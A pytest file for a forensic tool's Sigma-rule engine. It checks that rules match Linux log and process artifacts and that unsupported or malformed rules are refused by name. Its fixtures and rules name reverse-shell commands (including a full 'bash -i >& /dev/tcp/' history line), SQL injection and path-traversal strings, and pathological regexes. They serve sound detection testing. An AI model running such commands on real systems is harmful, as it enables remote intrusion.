"""Sigma rules of one's own: of every kind of event, hostile ones, and those that are refused by name."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stopgap.orchestrator.cli import main
from stopgap.orchestrator.findings import judge
from stopgap.orchestrator.findings.model import Findings
from stopgap.orchestrator.findings.sigma import SigmaError, add_sigma, load_sigma

from .collection import begin_custody, collected

AUTH = "Nov 23 02:14:46 web "
SIGMA = "title: A rule\ndescription: What it means\nlevel: high\nfalsepositives: [Administrators, Backups]\n"
PKEXEC = SIGMA + (
    "logsource: {product: linux, service: auth}\n"
    "detection:\n"
    "  keyword:\n"
    "    '|all': [pkexec, The value for environment variable XAUTHORITY contains suscipious content]\n"
    "  condition: keyword\n"
)
SUDO = SIGMA + (
    "logsource: {product: linux, service: sudo}\n"
    "detection:\n"
    "  selection_user: {USER: ['#-*', '#*4294967295']}\n"
    "  condition: selection_user\n"
)
SSHD = SIGMA + (
    "logsource: {product: linux, service: sshd}\n"
    "detection:\n"
    "  keywords: ['unexpected internal error', 'bad client public DH value', 'incorrect ?ignature']\n"
    "  condition: keywords\n"
)
CRON = SIGMA + (
    "logsource: {product: linux, service: cron}\ndetection:\n  keywords: [REPLACE]\n  condition: keywords\n"
)
SQL = SIGMA + (
    "logsource: {category: webserver}\n"
    "detection:\n"
    "  selection: {cs-method: GET}\n"
    "  keywords: ['@@version', '%271%27%3D%271', 'union select', 'UNION%20SELECT']\n"
    "  filter_main_status: {sc-status: 404}\n"
    "  condition: selection and keywords and not 1 of filter_main_*\n"
)
TRAVERSAL = SIGMA + (
    "logsource: {category: webserver}\n"
    "detection:\n"
    "  selection:\n"
    "    cs-uri-query|contains: ['../../../', '..%2f..%2f']\n"
    "    sc-status|lt: 400\n"
    "    c-ip|cidr: 198.51.100.0/24\n"
    "  condition: selection\n"
)
SHELL = SIGMA + (
    "logsource: {category: process_creation, product: linux}\n"
    "detection:\n"
    "  selection_img:\n"
    "    - Image|endswith: ['/python', '/python2', '/python3.11']\n"
    "    - Image|contains: '/perl'\n"
    "  selection_cli:\n"
    "    CommandLine|contains|all: [' -c ', import, socket, '.connect']\n"
    "    CommandLine|re: '(import|from)\\s+\\w*socket'\n"
    "    User: root\n"
    "    ParentImage|endswith: /apache2\n"
    "  condition: all of selection_*\n"
)
AUDIT = SIGMA + (
    "logsource: {product: linux, service: auditd}\n"
    "detection:\n"
    "  selection: {type: EXECVE, a0|contains: chattr, a1|contains: '+i', a2: '/tmp/a b'}\n"
    "  condition: selection\n"
)
FILE = SIGMA + (
    "logsource: {product: linux, category: file_event}\n"
    "detection:\n"
    "  selection: {TargetFilename|startswith: [/etc/cron.d/, /etc/cron.daily/]}\n"
    "  condition: selection\n"
)
NETWORK = SIGMA + (
    "logsource: {product: linux, category: network_connection}\n"
    "detection:\n"
    "  selection: {DestinationPort: [3333, 4444], DestinationIp|cidr: 198.51.100.0/24, Image|endswith: /x}\n"
    "  condition: selection\n"
)
ENCODED = SIGMA + (
    "logsource: {product: linux}\n"
    "detection:\n"
    "  selection: {message|base64offset|contains: /bin/bash}\n"
    "  gone: {user: null}\n"
    "  there: {program|exists: true}\n"
    "  cased: {message|contains|cased: RUN}\n"
    "  condition: selection and gone and there and cased\n"
)
TYPED = SIGMA + (
    "logsource: {product: linux}\n"
    "detection:\n"
    "  keywords: ['bash -i >& /dev/tcp/', 'nc -e /bin/sh ']\n"
    "  condition: keywords\n"
)
CHANGED = "|5|-rw-r--r--|0|0|9|1.0|1795400000.0|1795400000.0|0.0"
PROCESSES = {
    "processes": "/proc/7/stat:7 (python3) S 5 7 7 0 -1 4194560 0\n/proc/7/status:Uid:\t0\t0\n"
    "/proc/5/stat:5 (apache2) S 1 5 5 0 -1 4194560 0\n",
    "process-links": "0|/proc/7/exe -> /usr/bin/python3.11|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
    "0|/proc/5/exe -> /usr/sbin/apache2|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n",
    "process-arguments": "/proc/7/cmdline:python3\n/proc/7/cmdline:-c\n/proc/7/cmdline:import socket; s.connect(1)\n",
}


def log(name: str, *lines: str) -> dict[str, Any]:
    return {"logs": {f"/var/log/{name}": "".join(f"{line}\n" for line in lines)}}


def request(asked: str, status: int = 200) -> str:
    return f'198.51.100.2 - - [23/Nov/2026:02:14:46 +0000] "GET {asked} HTTP/1.1" {status} 9 "-" "-"'


CASES = {
    "keywords, all of them": (
        PKEXEC,
        log(
            "auth.log",
            AUTH + "pkexec[7]: x: The value for environment variable XAUTHORITY contains suscipious content",
            AUTH + "pkexec[7]: x: Executing command",
        ),
        ["/var/log/auth.log:1"],
    ),
    "a field of sudo": (
        SUDO,
        log(
            "auth.log",
            AUTH + "sudo:    ann : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/usr/bin/id",
            AUTH + "sudo:    ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/echo USER=#-1",
            AUTH + "other: x ; USER=#-1",
        ),
        ["/var/log/auth.log:1"],
    ),
    "keywords of one program, with a wildcard": (
        SSHD,
        log(
            "auth.log",
            AUTH + "sshd-session[7]: INCORRECT SIGNATURE",
            AUTH + "x[7]: incorrect signature",
            "incorrect signature",
        ),
        ["/var/log/auth.log:1"],
    ),
    "cron, in syslog": (
        CRON,
        log("syslog", "2026-11-23T02:14:46+00:00 web crontab[7]: (root) REPLACE (root)", AUTH + "x: REPLACE"),
        ["/var/log/syslog:1"],
    ),
    "a request and the status that it got": (
        SQL,
        log(
            "apache2/access.log",
            request("/?q=UNION%20SELECT%201"),
            request("/?q=1"),
            request("/?q=union%20select", 404),
        ),
        ["/var/log/apache2/access.log:1"],
    ),
    "numbers and networks": (
        TRAVERSAL,
        log(
            "nginx/access.log",
            request("/?f=../../../etc"),
            request("/?f=../../../etc", 500),
            request("/../../../etc"),
        ),
        ["/var/log/nginx/access.log:1"],
    ),
    "a process with its parent": (SHELL, PROCESSES, [":1"]),
    "auditd, in hexadecimal": (
        AUDIT,
        log(
            "audit/audit.log",
            'type=EXECVE msg=audit(1795399000.123:7): argc=3 a0="chattr" a1="+i" a2=2F746D702F612062',
            'type=EXECVE msg=audit(1795399000.123:8): argc=3 a0="lsattr" a1="+i" a2=2F746D702F612062',
        ),
        ["/var/log/audit/audit.log:1"],
    ),
    "a file that was changed": (
        FILE,
        {"bodyfile": f"0|/etc/cron.d/x{CHANGED}\n0|/etc/x{CHANGED}\n"},
        [":1"],
    ),
    "a connection": (
        NETWORK,
        {
            "socket-list": 'tcp   ESTAB 0 0 203.0.113.10:40000 198.51.100.2:4444 users:(("x",pid=5,fd=3))\n'
            'tcp   ESTAB 0 0 203.0.113.10:40000 192.0.2.2:4444 users:(("x",pid=5,fd=3))\n',
            "processes": "/proc/5/stat:5 (x) S 1 5 5 0 -1 4194560 0\n",
            "process-links": "0|/proc/5/exe -> /opt/x|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n",
        },
        [":1"],
    ),
    "modifiers": (
        ENCODED,
        log("syslog", AUTH + "x: RUN L2Jpbi9iYXNo", AUTH + "x: run L2Jpbi9iYXNo", AUTH + "x: RUN xL2Jpbi9iYXN")
        | {"histories": {"/root/.bash_history": "x"}},
        ["/var/log/syslog:1"],
    ),
    "what was typed": (
        TYPED,
        log("syslog", AUTH + "x: bash -i")
        | {"histories": {"/root/.bash_history": "id\nbash -i >& /dev/tcp/x/1 0>&1\n"}},
        ["/root/.bash_history:2"],
    ),
}  # fmt: skip


def held(folder: Path, rule: str, artifacts: dict[str, Any]) -> Findings:
    path = folder / "my_rule.yml"
    path.write_text(rule)
    made = collected(folder / "c", artifacts)
    return add_sigma(judge(made, []), made, load_sigma(path))


@pytest.mark.parametrize("about", CASES)
def test_a_rule_finds_its_events_and_no_others(about: str, tmp_path: Path) -> None:
    rule, artifacts, places = CASES[about]
    found = held(tmp_path, rule, artifacts)
    assert not found.not_looked
    (finding,) = found.findings
    assert [f"{seen.member}:{seen.line}" for seen in finding.seen] == places
    assert (finding.id, finding.severity, finding.title) == ("sigma-my-rule", "high", "Sigma rule A rule")
    assert (finding.why, finding.falsepositives, finding.count) == (
        "What it means",
        ("Administrators", "Backups"),
        len(places),
    )


def test_a_finding_has_the_techniques_and_the_references_of_the_rule(tmp_path: Path) -> None:
    about = (
        "tags: [attack.persistence, attack.t1053.003, cve.2021-4034]\nreferences: ['https://example.org/\u202e']\n"
    )
    (finding,) = held(tmp_path, about + CRON, CASES["cron, in syslog"][1]).findings
    assert finding.tags == ("attack.t1053.003",)
    assert finding.references == ("https://example.org/\\u202e",)


def test_a_sighting_has_its_time_and_its_process(tmp_path: Path) -> None:
    (finding,) = held(tmp_path, CRON, CASES["cron, in syslog"][1]).findings
    assert finding.seen[0].at == "2026-11-23T02:14:46Z"
    (finding,) = held(tmp_path, SHELL, PROCESSES).findings
    assert finding.seen[0].pid == 7


def test_where_nothing_was_seen_it_says_in_how_much(tmp_path: Path) -> None:
    found = held(tmp_path, CRON, log("syslog", AUTH + "cron[7]: x", AUTH + "cron[7]: y", AUTH + "z: y"))
    assert [(each.id, each.compared) for each in found.no_discrepancy_seen] == [
        ("sigma-my-rule", "2 rows of log-lines")
    ]


def changed(old: str, new: str, rule: str = SQL) -> str:
    assert old in rule
    return rule.replace(old, new)


REFUSED = {
    "field reference": (changed("cs-method: GET", "cs-method|fieldref: c-ip"), "the modifier `fieldref`"),
    "placeholder": (changed("cs-method: GET", "cs-method|expand: '%methods%'"), "the modifier `expand`"),
    "part of a time": (changed("cs-method: GET", "cs-method|hour: 3"), "the modifier `hour`"),
    "field": (changed("cs-method: GET", "cs-host: x"), "the field `cs-host` is not known of requests"),
    "counting": (changed("  condition:", "  timeframe: 5m\n  condition:"), "`timeframe`"),
    "correlation": ("title: x\ncorrelation: {type: event_count}\n", "`correlation`"),
    "filter": ("title: x\nlogsource: {product: linux}\nfilter: {rules: []}\n", "`filter`"),
    "several documents": ("title: x\naction: global\n", "`action`"),
    "another system": (
        changed("{category: webserver}", "{product: windows, service: security}"),
        "1 rules: such a log",
    ),
}


@pytest.mark.parametrize("about", REFUSED)
def test_what_is_not_evaluated_is_refused_by_name_and_never_passed_over(about: str, tmp_path: Path) -> None:
    rule, reason = REFUSED[about]
    found = held(tmp_path, rule, log("apache2/access.log", request("/")))
    assert not found.findings
    assert not found.no_discrepancy_seen
    (missed,) = found.not_looked
    assert reason in missed.reason


WRONG = {
    "no YAML": "title: [",
    "no rule": "[]",
    "unknown modifier": changed("cs-method: GET", "cs-method|sounds: GET"),
    "unknown name": changed("keywords and", "words and"),
    "old aggregation": changed("and not 1 of filter_main_*", "| count() > 5"),
    "look-ahead, which takes more than linear time": changed("cs-method: GET", "cs-method|re: '(?=x)y'"),
    "backward reference": changed("cs-method: GET", "cs-method|re: '(a+)\\1'"),
    "pattern too large": changed("cs-method: GET", "cs-method|re: '((a{100}){100}){100}'"),
    "depth": changed("selection and keywords", "not " * 20_000 + "selection"),
    "level": changed("level: high", "level: terrible"),
    "no log source": changed("logsource: {category: webserver}\n", ""),
    "aliases without end": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b, *b]\n" + "".join(
        f"k{n}: &k{n} [*{'c' if n == 0 else f'k{n - 1}'}, *{'c' if n == 0 else f'k{n - 1}'}]\n" for n in range(20)
    ),
}  # fmt: skip


@pytest.mark.parametrize("about", WRONG)
def test_a_rule_that_is_wrong_is_named(about: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bad.yml"
    path.write_text(WRONG[about])
    with pytest.raises(SigmaError, match=r"bad\.yml"):
        load_sigma(path)
    begin_custody(collected(tmp_path / "c", log("syslog", "x")))
    assert main(["evidence", "findings", str(tmp_path / "c"), "--sigma", str(path)]) == 2
    assert "Traceback" not in capfd.readouterr().err


def test_a_folder_of_rules_is_taken_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "rules/linux"
    rules.mkdir(parents=True)
    (rules / "cron.yml").write_text(CRON)
    (rules / "auth.yaml").write_text(PKEXEC)
    (rules / "x.txt").write_text("not a rule")
    begin_custody(collected(tmp_path / "c", CASES["cron, in syslog"][1]))
    assert main(["evidence", "findings", str(tmp_path / "c"), "--sigma", str(tmp_path / "rules"), "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert [f["id"] for f in found["findings"] if f["id"].startswith("sigma-")] == ["sigma-cron"]
    assert [f["id"] for f in found["no_discrepancy_seen"] if f["id"].startswith("sigma-")] == ["sigma-auth"]


def test_of_a_large_folder_what_can_be_held_is_and_what_cannot_is_said(tmp_path: Path) -> None:
    rules = tmp_path / "sigma"
    windows = changed("logsource: {category: webserver}", "logsource: {category: registry_set, product: windows}")
    files = {
        "good": SQL,
        "cron": CRON,
        "pkexec": PKEXEC,
        "registry": windows,
        "driver": windows,
        "workflow": "on: push\n",
    }
    files |= {f"refused {about}": rule for about, (rule, _) in REFUSED.items() if "another" not in about}
    files |= {f"wrong {about}": rule for about, rule in WRONG.items()}
    for about, rule in files.items():
        path = rules / about.partition(" ")[0] / f"{about.replace(' ', '_')}.yml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(rule)
    loaded = load_sigma(rules)
    reasons = {refused.title: refused.reason for refused in loaded.refused}
    assert sorted(rule.id for rule in loaded.rules) == ["sigma-cron", "sigma-good", "sigma-pkexec"]
    assert reasons["Sigma rules for windows/registry_set"] == "2 rules: such a log is not collected"
    assert sum("the rule is wrong" in reason for reason in reasons.values()) >= len(WRONG) - 2
    assert "no `detection`" in reasons["Files that are no Sigma rules"]
    with pytest.raises(SigmaError, match="holds no Sigma rule"):
        load_sigma(next(rules.glob("workflow")))


def test_patterns_made_to_be_slow_are_not(tmp_path: Path) -> None:
    slow = "{cs-uri|re: '(x+x+)+y', c-uri|contains: 'a*a*a*a*a*a*a*b'}"
    rule = changed("selection and", "(selection or slow) and", changed("  keywords:", f"  slow: {slow}\n  keywords:"))
    long = request("/?q=union+select" + "x" * 4000 + "a" * 4000)
    started = time.monotonic()
    found = held(
        tmp_path, changed("cs-method: GET", "cs-method: PUT", rule), log("apache2/access.log", *[long] * 200)
    )
    assert not found.findings
    assert time.monotonic() - started < 30


def test_when_the_time_is_over_that_is_said(tmp_path: Path) -> None:
    path = tmp_path / "r.yml"
    path.write_text(CRON)
    made = collected(tmp_path / "c", log("syslog", *[AUTH + "cron: x"] * 9))
    ticks = iter(range(100))
    found = add_sigma(judge(made, []), made, load_sigma(path), budget=3, clock=lambda: float(next(ticks)))
    assert found.no_discrepancy_seen == ()
    assert found.not_looked[0].reason.startswith("the time for it was over")


def test_a_log_that_was_cut_and_a_profile_without_it_are_told_apart(tmp_path: Path) -> None:
    path = tmp_path / "r.yml"
    path.write_text(CRON)
    rules = load_sigma(path)
    without = collected(tmp_path / "without", {"modules": "x"})
    assert add_sigma(judge(without, []), without, rules) == judge(without, [])
    made = collected(tmp_path / "cut", log("syslog", AUTH + "cron: x"))
    cut = made.manifest.model_copy(update={"items": (made.manifest.items[0].model_copy(update={"truncated": True}),)})
    made = type(made)(made.folder, cut)
    assert "was cut off" in add_sigma(judge(made, []), made, rules).not_looked[0].reason


TEXTS = st.text(max_size=60) | st.binary(max_size=60).map(lambda b: b.decode("utf-8", "surrogateescape"))


@settings(max_examples=60, deadline=None)
@given(lines=st.lists(TEXTS, max_size=12))
def test_no_host_can_break_the_events(tmp_path: Path, lines: list[str]) -> None:
    text = "".join(f"{line}\n" for line in lines)
    logs = dict.fromkeys(("/var/log/auth.log", "/var/log/syslog", "/var/log/apache2/access.log"), text)
    logs["/var/log/audit/audit.log"] = "".join(f"type=EXECVE a0={line}\n" for line in lines)
    held_texts = dict.fromkeys(("processes", "process-links", "process-arguments", "bodyfile", "socket-list"), text)
    made = collected(tmp_path / "c", {"logs": logs} | held_texts)
    rules = tmp_path / "rules"
    rules.mkdir(exist_ok=True)
    for number, (rule, _, _) in enumerate(CASES.values()):
        (rules / f"{number}.yml").write_text(rule)
    add_sigma(judge(made, []), made, load_sigma(rules)).canonical()
